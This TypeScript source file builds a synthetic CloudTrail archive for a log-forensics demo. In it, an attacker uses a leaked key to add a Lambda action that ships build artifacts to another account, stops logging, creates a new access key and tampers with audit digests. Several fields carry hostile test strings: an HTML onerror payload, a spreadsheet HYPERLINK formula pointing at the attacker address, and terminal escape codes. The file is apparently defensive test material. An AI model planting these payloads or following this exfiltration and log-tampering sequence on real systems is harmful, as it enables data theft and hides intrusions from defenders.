import fs from 'node:fs';
import path from 'node:path';
import zlib from 'node:zlib';
import { seededRandom } from '../bench/seeded-random.ts';
import { type DeliveredLog, writeDemoDigests } from './demo-digests.ts';

/**
 * The demo case's archive: a short incident in account 111122223333, in the S3 layout.
 *
 * A developer's access key leaks. From 203.0.113.66 the attacker looks around, fails once to
 * change the deploy-prod pipeline, then adds a Lambda "invoke" action that ships the build
 * artifacts out, runs the pipeline, stops CloudTrail logging and makes a key for another
 * user. The next morning an admin restores the pipeline. Routine traffic surrounds it all,
 * and a few fields carry hostile strings (HTML, a spreadsheet formula, terminal escapes).
 *
 * The organization trail the attacker stopped is not the only one: the account's own trail,
 * acme-audit, kept logging, and its digests are in the archive, signed hour by hour. With the
 * same key the attacker then deleted that trail's digest for the hour of the attack, and
 * rewrote one later record (a DescribeInstances call from their address and tool) to look
 * like dana's routine work. The public key, as `list-public-keys` output, lies beside the
 * archive (samples/demo-public-keys.json) for the analyst to import.
 */
const ACCOUNT = '111122223333';
const REGION = 'us-east-1';
const ATTACKER_IP = '203.0.113.66';
const LEAKED_KEY = 'AKIAQDEMOLEAKED00001';
const rand = seededRandom(2026);
let counter = 0;
const id = () =>
  `demo-${String(++counter).padStart(4, '0')}-${Math.floor(rand() * 0xffffffff)
    .toString(16)
    .padStart(8, '0')}`;

const users = {
  dana: {
    type: 'IAMUser',
    principalId: 'AIDADEMODANA00000001',
    arn: `arn:aws:iam::${ACCOUNT}:user/dana`,
    accountId: ACCOUNT,
    accessKeyId: LEAKED_KEY,
    userName: 'dana',
  },
  alice: {
    type: 'AssumedRole',
    principalId: 'AROADEMOADMIN0000001:alice',
    arn: `arn:aws:sts::${ACCOUNT}:assumed-role/Admin/alice`,
    accountId: ACCOUNT,
    accessKeyId: 'ASIADEMOALICE0000001',
    sessionContext: {
      sessionIssuer: {
        type: 'Role',
        principalId: 'AROADEMOADMIN0000001',
        arn: `arn:aws:iam::${ACCOUNT}:role/Admin`,
        accountId: ACCOUNT,
        userName: 'Admin',
      },
      attributes: { creationDate: '2026-11-02T08:00:00Z', mfaAuthenticated: 'true' },
    },
  },
  ci: {
    type: 'AssumedRole',
    principalId: 'AROADEMOCI0000000001:build',
    arn: `arn:aws:sts::${ACCOUNT}:assumed-role/ci-runner/build`,
    accountId: ACCOUNT,
    accessKeyId: 'ASIADEMOCI0000000001',
    sessionContext: {
      sessionIssuer: { type: 'Role', arn: `arn:aws:iam::${ACCOUNT}:role/ci-runner`, userName: 'ci-runner' },
      attributes: { creationDate: '2026-11-01T00:00:00Z', mfaAuthenticated: 'false' },
    },
  },
};
type Who = keyof typeof users;

const agents = {
  console: 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36',
  cli: 'aws-cli/2.22.0 md/awscrt#0.23.0 ua/2.0 os/linux#6.8 md/arch#x86_64 lang/python#3.12.6 md/pyimpl#CPython cfg/retry-mode#standard md/installer#exe md/prompt#off',
  attacker: '<img src=x onerror=alert(1)> python-requests/2.32.3',
  sdk: 'aws-sdk-js/3.700.0 ua/2.1 os/linux#6.8 lang/js md/nodejs#20.18.0 api/codepipeline#3.700.0',
};

function event(
  time: string,
  who: Who,
  ip: string,
  agent: string,
  source: string,
  name: string,
  request: unknown,
  extra: Record<string, unknown> = {},
) {
  return {
    eventVersion: '1.10',
    userIdentity: users[who],
    eventTime: time,
    eventSource: source,
    eventName: name,
    awsRegion: REGION,
    sourceIPAddress: ip,
    userAgent: agent,
    requestParameters: request,
    responseElements: null,
    requestID: id(),
    eventID: id(),
    readOnly: /^(Get|List|Describe)/.test(name),
    eventType: 'AwsApiCall',
    managementEvent: true,
    recipientAccountId: ACCOUNT,
    eventCategory: 'Management',
    tlsDetails: {
      tlsVersion: 'TLSv1.3',
      cipherSuite: 'TLS_AES_128_GCM_SHA256',
      clientProvidedHostHeader: `${source.split('.')[0]}.${REGION}.amazonaws.com`,
    },
    ...extra,
  };
}

const sourceStage = (branch: string) => ({
  name: 'Source',
  actions: [
    {
      name: 'Source',
      actionTypeId: { category: 'Source', owner: 'AWS', provider: 'CodeStarSourceConnection', version: '1' },
      runOrder: 1,
      configuration: {
        ConnectionArn: `arn:aws:codeconnections:${REGION}:${ACCOUNT}:connection/demo-1234`,
        FullRepositoryId: 'acme/web',
        BranchName: branch,
      },
      outputArtifacts: [{ name: 'SourceOutput' }],
      inputArtifacts: [],
    },
  ],
});
const buildStage = {
  name: 'Build',
  actions: [
    {
      name: 'Build',
      actionTypeId: { category: 'Build', owner: 'AWS', provider: 'CodeBuild', version: '1' },
      runOrder: 1,
      configuration: { ProjectName: 'web-build' },
      inputArtifacts: [{ name: 'SourceOutput' }],
      outputArtifacts: [{ name: 'BuildOutput' }],
    },
  ],
};
const approvalStage = {
  name: 'Approve',
  actions: [
    {
      name: 'ManualApproval',
      actionTypeId: { category: 'Approval', owner: 'AWS', provider: 'Manual', version: '1' },
      runOrder: 1,
      configuration: {},
      inputArtifacts: [],
      outputArtifacts: [],
    },
  ],
};
const deployStage = {
  name: 'Deploy',
  actions: [
    {
      name: 'Deploy',
      actionTypeId: { category: 'Deploy', owner: 'AWS', provider: 'S3', version: '1' },
      runOrder: 1,
      configuration: { BucketName: 'acme-web-prod', Extract: 'true' },
      inputArtifacts: [{ name: 'BuildOutput' }],
      outputArtifacts: [],
    },
  ],
};
const exfilAction = {
  name: 'Notify',
  actionTypeId: { category: 'Invoke', owner: 'AWS', provider: 'Lambda', version: '1' },
  runOrder: 2,
  configuration: {
    FunctionName: 'arn:aws:lambda:us-east-1:999988887777:function:collector',
    UserParameters: '=HYPERLINK("http://203.0.113.66/x","open")',
  },
  inputArtifacts: [{ name: 'BuildOutput' }],
  outputArtifacts: [],
};

function pipeline(version: number, stages: unknown[]) {
  return {
    name: 'deploy-prod',
    roleArn: `arn:aws:iam::${ACCOUNT}:role/service-role/deploy-prod`,
    artifactStore: { type: 'S3', location: `codepipeline-${REGION}-demo` },
    stages,
    version,
    pipelineType: 'V2',
    executionMode: 'QUEUED',
  };
}
const pipelineEvent = (
  time: string,
  who: Who,
  ip: string,
  agent: string,
  name: string,
  version: number,
  stages: unknown[],
  extra: Record<string, unknown> = {},
) =>
  event(
    time,
    who,
    ip,
    agent,
    'codepipeline.amazonaws.com',
    name,
    { pipeline: pipeline(version - (name === 'UpdatePipeline' ? 1 : 0), stages) },
    { responseElements: { pipeline: pipeline(version, stages) }, ...extra },
  );

const story = [
  pipelineEvent('2026-10-20T14:03:11Z', 'alice', '198.51.100.10', agents.console, 'CreatePipeline', 1, [
    sourceStage('main'),
    buildStage,
    deployStage,
  ]),
  pipelineEvent('2026-10-27T09:41:52Z', 'alice', '198.51.100.10', agents.console, 'UpdatePipeline', 2, [
    sourceStage('main'),
    buildStage,
    approvalStage,
    deployStage,
  ]),
  event('2026-11-02T02:12:07Z', 'dana', ATTACKER_IP, agents.attacker, 'sts.amazonaws.com', 'GetCallerIdentity', null),
  event(
    '2026-11-02T02:13:40Z',
    'dana',
    ATTACKER_IP,
    agents.attacker,
    'codepipeline.amazonaws.com',
    'ListPipelines',
    null,
  ),
  event('2026-11-02T02:14:02Z', 'dana', ATTACKER_IP, agents.attacker, 'codepipeline.amazonaws.com', 'GetPipeline', {
    name: 'deploy-prod',
  }),
  event(
    '2026-11-02T02:16:30Z',
    'dana',
    ATTACKER_IP,
    agents.attacker,
    'codepipeline.amazonaws.com',
    'UpdatePipeline',
    { pipeline: pipeline(2, [sourceStage('main'), buildStage, deployStage]) },
    {
      errorCode: 'AccessDeniedException',
      errorMessage: 'User: arn:aws:iam::111122223333:user/dana is not authorized to perform: iam:PassRole',
    },
  ),
  pipelineEvent('2026-11-02T02:21:45Z', 'dana', ATTACKER_IP, agents.attacker, 'UpdatePipeline', 3, [
    sourceStage('main'),
    { ...buildStage, actions: [...buildStage.actions, exfilAction] },
    deployStage,
  ]),
  event(
    '2026-11-02T02:22:10Z',
    'dana',
    ATTACKER_IP,
    agents.attacker,
    'codepipeline.amazonaws.com',
    'StartPipelineExecution',
    { name: 'deploy-prod' },
    { responseElements: { pipelineExecutionId: 'a1b2c3d4-demo-exec-0001' } },
  ),
  event('2026-11-02T02:30:55Z', 'dana', ATTACKER_IP, agents.attacker, 'cloudtrail.amazonaws.com', 'StopLogging', {
    name: `arn:aws:cloudtrail:${REGION}:${ACCOUNT}:trail/org-trail`,
  }),
  event(
    '2026-11-02T02:33:18Z',
    'dana',
    ATTACKER_IP,
    agents.attacker,
    'iam.amazonaws.com',
    'CreateAccessKey',
    { userName: 'svc-backup\u001b[2J' },
    {
      responseElements: {
        accessKey: { accessKeyId: 'AKIAQDEMONEWKEY00002', status: 'Active', userName: 'svc-backup\u001b[2J' },
      },
    },
  ),
  event('2026-11-02T08:05:12Z', 'alice', '198.51.100.10', agents.console, 'cloudtrail.amazonaws.com', 'StartLogging', {
    name: `arn:aws:cloudtrail:${REGION}:${ACCOUNT}:trail/org-trail`,
  }),
  pipelineEvent('2026-11-02T08:19:40Z', 'alice', '198.51.100.10', agents.console, 'UpdatePipeline', 4, [
    sourceStage('main'),
    buildStage,
    approvalStage,
    deployStage,
  ]),
  event('2026-11-02T08:25:03Z', 'alice', '198.51.100.10', agents.console, 'iam.amazonaws.com', 'UpdateAccessKey', {
    userName: 'dana',
    accessKeyId: LEAKED_KEY,
    status: 'Inactive',
  }),
];

const routine = Array.from({ length: 400 }, (_, i) => {
  const start = Date.UTC(2026, 9, 20);
  const time = new Date(start + Math.floor(rand() * 14 * 24 * 3600) * 1000).toISOString().replace('.000', '');
  const kinds = [
    () =>
      event(time, 'ci', '10.0.12.7', agents.sdk, 'codepipeline.amazonaws.com', 'GetPipelineState', {
        name: 'deploy-prod',
      }),
    () =>
      event(
        time,
        'ci',
        '10.0.12.7',
        agents.sdk,
        's3.amazonaws.com',
        'PutObject',
        { bucketName: 'acme-web-prod', key: `assets/app-${i}.js` },
        { readOnly: false, managementEvent: false, eventCategory: 'Data' },
      ),
    () => event(time, 'dana', '198.51.100.23', agents.cli, 'ec2.amazonaws.com', 'DescribeInstances', { filterSet: {} }),
    () => event(time, 'alice', '198.51.100.10', agents.console, 'iam.amazonaws.com', 'ListUsers', null),
  ];
  return kinds[Math.floor(rand() * kinds.length)]!();
});

type DemoRecord = (typeof routine)[number];

/** The record the attacker rewrote, as CloudTrail delivered it: their address and tool, not dana's. */
const doctored = (record: DemoRecord) =>
  record.eventTime.startsWith('2026-11-02T05') && record.eventName === 'DescribeInstances';
const asDelivered = (record: DemoRecord) =>
  doctored(record) ? { ...record, sourceIPAddress: ATTACKER_IP, userAgent: agents.attacker } : record;

/** acme-audit's hourly digests cover the whole archive: 20 October 00:01:31 to 3 November 00:01:31. */
const AUDIT_TRAIL = {
  account: ACCOUNT,
  region: REGION,
  trail: 'acme-audit',
  bucket: 'acme-audit-logs',
  startMs: Date.UTC(2026, 9, 20, 0, 1, 31),
  hours: 14 * 24,
  deletedHour: 13 * 24 + 2,
};

/**
 * Records grouped into delivery files (by hour), shuffled, gzipped under AWSLogs/; then the
 * audit trail's digests over them, and its public key beside `root`.
 */
export function buildDemo(root: string): { events: number; digests: number } {
  fs.rmSync(root, { recursive: true, force: true });
  const byHour = new Map<string, DemoRecord[]>();
  for (const record of [...story, ...routine]) {
    const hour = record.eventTime.slice(0, 13);
    byHour.set(hour, [...(byHour.get(hour) ?? []), record]);
  }
  const delivered: DeliveredLog[] = [];
  for (const [hour, records] of [...byHour.entries()].sort()) {
    for (let k = records.length - 1; k > 0; k--) {
      const j = Math.floor(rand() * (k + 1));
      [records[k], records[j]] = [records[j]!, records[k]!];
    }
    const [date, hh] = hour.split('T') as [string, string];
    const key = [
      'AWSLogs',
      ACCOUNT,
      'CloudTrail',
      REGION,
      ...date.split('-'),
      `${ACCOUNT}_CloudTrail_${REGION}_${date.replaceAll('-', '')}T${hh}05Z_demo${hh}${date.slice(8)}.json.gz`,
    ].join('/');
    fs.mkdirSync(path.dirname(path.join(root, key)), { recursive: true });
    fs.writeFileSync(
      path.join(root, key),
      zlib.gzipSync(JSON.stringify({ Records: records }), { level: 9, mtime: 0 } as zlib.ZlibOptions),
    );
    delivered.push({
      key,
      deliveredMs: Date.parse(`${hour}:05:00Z`),
      content: JSON.stringify({ Records: records.map(asDelivered) }),
      eventTimes: records.map((r) => r.eventTime),
    });
  }
  const { written, publicKeys } = writeDemoDigests(root, AUDIT_TRAIL, delivered);
  fs.writeFileSync(path.join(path.dirname(root), 'demo-public-keys.json'), publicKeys);
  return { events: story.length + routine.length, digests: written };
}

if (import.meta.url === `file://${process.argv[1]}`) {
  const { events, digests } = buildDemo(path.resolve('samples/demo-archive'));
  console.log(
    `samples/demo-archive: ${events} events, ${digests} digests of trail ${AUDIT_TRAIL.trail}; its public key in samples/demo-public-keys.json`,
  );
}
